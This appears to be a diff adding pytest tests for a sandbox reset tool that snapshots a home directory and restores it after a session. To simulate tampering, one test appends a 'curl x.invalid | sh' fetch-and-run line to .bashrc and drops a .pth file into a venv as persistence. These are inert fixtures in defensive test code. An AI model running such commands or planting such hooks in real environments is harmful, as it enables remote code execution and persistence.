@@ -1,0 +1,94 @@
+"""sandbox/agent/reset.py on a real tree: what the extra passes start from.
+
+The agent runs it as root on the snapshot and as the candidate's uid on the restore;
+here both are this process's uid (the suite runs as root), through the same setpriv
+command line, on a temporary HOME with a venv inside."""
+
+from __future__ import annotations
+
+import os
+import tarfile
+from pathlib import Path
+
+import pytest
+
+from sandbox.agent import reset
+
+
+def _tree(root: Path) -> dict[str, tuple[int, bytes | None]]:
+    """path -> (mode, contents) of everything under *root*."""
+    out: dict[str, tuple[int, bytes | None]] = {}
+    for dirpath, dirnames, filenames in os.walk(root):
+        for name in dirnames + filenames:
+            p = Path(dirpath, name)
+            st = p.lstat()
+            data = p.read_bytes() if p.is_file() and not p.is_symlink() else None
+            out[str(p.relative_to(root))] = (st.st_mode, data)
+    return out
+
+
+@pytest.fixture
+def world(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> dict[str, object]:
+    home = tmp_path / "home" / "dev"
+    venv = home / "project" / ".venv"
+    (venv / "lib").mkdir(parents=True)
+    (venv / "lib" / "site.pth").write_text("import x\n")
+    (home / ".bashrc").write_text("alias ll='ls -l'\n")
+    (home / ".aws").mkdir(mode=0o700)
+    (home / ".aws" / "credentials").write_text("[default]\n")
+    (home / "project" / "README.md").write_text("# service\n")
+    (home / "link").symlink_to("/etc/hostname")
+    tmp = tmp_path / "tmp"
+    tmp.mkdir()
+    (tmp / "pip-build-left").write_text("x")
+    monkeypatch.setattr(reset, "SNAPSHOT", tmp_path / "snap.tar")
+    monkeypatch.setattr(reset, "TEMP_ROOTS", (str(tmp),))
+    plan = {"home": str(home), "venv": str(venv), "uid": os.getuid(), "gid": os.getgid()}
+    return {"plan": plan, "home": home, "venv": venv, "tmp": tmp}
+
+
+def test_restore_brings_back_what_install_left_and_never_touches_the_venv(world: dict[str, object]) -> None:
+    plan, home, venv, tmp = world["plan"], world["home"], world["venv"], world["tmp"]
+    assert isinstance(plan, dict) and isinstance(home, Path) and isinstance(venv, Path)
+    assert isinstance(tmp, Path)
+    assert reset.save(plan) == ""
+    with tarfile.open(reset.SNAPSHOT) as tar:
+        names = tar.getnames()
+    assert not [n for n in names if ".venv" in n], names
+    before_home = {k: v for k, v in _tree(home).items() if not k.startswith("project/.venv")}
+    before_tmp = _tree(tmp)
+    # what a first session leaves: a mark, an append, a locked-down folder, a temp lock,
+    # a deleted file, and a payload dropped into the venv (persistence, judged elsewhere)
+    mark = home / ".config" / "tool" / "installed"
+    mark.parent.mkdir(parents=True)
+    mark.write_text("1")
+    with (home / ".bashrc").open("a") as fh:
+        fh.write("curl x.invalid | sh\n")
+    (home / "locked").mkdir()
+    (home / "locked" / "f").write_text("x")
+    (home / "locked").chmod(0o500)
+    (tmp / ".lock").write_text("x")
+    (home / "project" / "README.md").unlink()
+    (venv / "lib" / "dropped.pth").write_text("import y\n")
+
+    pid, problem = reset.restore(plan)
+    assert problem == "" and isinstance(pid, int) and pid > 0
+    after_home = {k: v for k, v in _tree(home).items() if not k.startswith("project/.venv")}
+    assert after_home == before_home
+    assert _tree(tmp) == before_tmp
+    assert (venv / "lib" / "dropped.pth").exists() and (venv / "lib" / "site.pth").exists()
+
+
+def test_restore_without_a_snapshot_says_so(world: dict[str, object]) -> None:
+    plan = world["plan"]
+    assert isinstance(plan, dict)
+    assert reset.restore(plan) == (None, "no snapshot of the state after install")
+
+
+def test_a_filled_home_is_not_snapshot(world: dict[str, object], monkeypatch: pytest.MonkeyPatch) -> None:
+    plan, home = world["plan"], world["home"]
+    assert isinstance(plan, dict) and isinstance(home, Path)
+    monkeypatch.setattr(reset, "MAX_BYTES", 1000)
+    (home / "big").write_bytes(b"x" * 2000)
+    assert "exceed" in reset.save(plan)
+    assert not reset.SNAPSHOT.exists()
